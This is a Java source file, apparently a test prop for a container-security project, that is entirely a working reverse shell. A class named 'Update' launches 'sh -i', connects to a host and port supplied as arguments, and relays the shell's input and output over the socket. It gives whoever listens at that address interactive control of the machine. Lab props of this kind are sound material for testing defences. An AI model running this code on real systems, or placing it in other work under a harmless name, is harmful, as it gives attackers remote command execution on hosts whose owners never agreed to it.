// Copyright (c) The cordon.docker authors
// GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
// SPDX-License-Identifier: GPL-3.0-or-later

import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

/** A lab prop: a shell with pipes for streams, and a thread for each that passes on what it says. */
public class Update {
    public static void main(String[] arguments) throws Exception {
        Process shell = new ProcessBuilder("sh", "-i").redirectErrorStream(true).start();
        Socket socket = new Socket(arguments[0], Integer.parseInt(arguments[1]));
        pass(socket.getInputStream(), shell.getOutputStream());
        pass(shell.getInputStream(), socket.getOutputStream());
        shell.waitFor();
    }

    private static void pass(InputStream from, OutputStream to) {
        new Thread(() -> {
            try {
                byte[] block = new byte[4096];
                for (int count = from.read(block); count > 0; count = from.read(block)) {
                    to.write(block, 0, count);
                    to.flush();
                }
            } catch (java.io.IOException error) {
                System.exit(0);
            }
        }).start();
    }
}
